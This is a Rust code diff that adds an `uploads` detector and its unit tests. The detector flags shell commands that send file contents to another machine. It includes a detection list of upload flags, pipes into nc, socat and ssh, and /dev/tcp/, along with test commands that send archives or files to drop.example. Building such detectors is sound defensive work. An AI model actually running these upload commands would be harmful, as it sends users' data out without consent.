@@ -63,9 +63,76 @@ pub fn destinations(command: &str) -> Vec<&str> {
     words.into_iter().filter(|word| is_place(word)).collect()
 }
 
+/// Parts of commands that pass on what a file or another program holds.
+const UPLOADS: &[&str] = &[
+    "--upload-file",
+    " -T ",
+    "-F ",
+    "--form",
+    "-d @",
+    "-d@",
+    "--data @",
+    "--data-binary @",
+    "--data-raw @",
+    "--data-urlencode",
+    "--post-file",
+    "--body-file",
+    "| nc ",
+    "| ncat ",
+    "| curl ",
+    "| openssl s_client",
+    "| socat ",
+    "| ssh ",
+    "| mail ",
+    "| wget ",
+    "| telnet ",
+    "-d \"$(",
+    "-d '$(",
+    "-d $(",
+    "=$(",
+    "`cat ",
+    "=@",
+    "< /",
+    "< ~",
+    "@-",
+    "--infile",
+    "put-object",
+    "-InFile",
+    "-Body (Get-Content",
+    "/dev/tcp/",
+];
+/// Programs that copy files to another machine.
+const COPIERS: &[&str] = &["scp", "rsync", "rclone", "sftp", "gsutil", "lftp", "croc", "magic-wormhole", "wormhole"];
+
+/// Returns true if and only if a command passes on what a file or another program holds.
+pub fn uploads(command: &str) -> bool {
+    let copies = command.split_whitespace().any(|word| COPIERS.contains(&word.rsplit('/').next().unwrap_or(word)));
+    UPLOADS.iter().any(|part| command.contains(part)) || copies && destinations(command).iter().any(|place| is_last(command, place))
+}
+
+/// Returns true if and only if a place stands at the end of a command: it is copied to, not from.
+fn is_last(command: &str, place: &str) -> bool {
+    command.trim_end_matches(['"', '\'', ' ']).rsplit(char::is_whitespace).next().is_some_and(|last| last.contains(place))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn commands_that_pass_files_on() {
+        for (command, expected) in [
+            ("curl -s --upload-file /tmp/a https://drop.example", true),
+            ("curl -F file=@a.csv https://drop.example", true),
+            ("tar cz . | nc drop.example 99", true),
+            ("scp a.sql me@drop.example:/tmp", true),
+            ("scp me@drop.example:/tmp/a.sql .", false),
+            ("curl -o a.tgz https://drop.example/a.tgz", false),
+            ("curl https://drop.example", false),
+        ] {
+            assert_eq!(uploads(command), expected, "{command}");
+        }
+    }
 
     #[test]
     fn commands_that_send_name_their_place() {
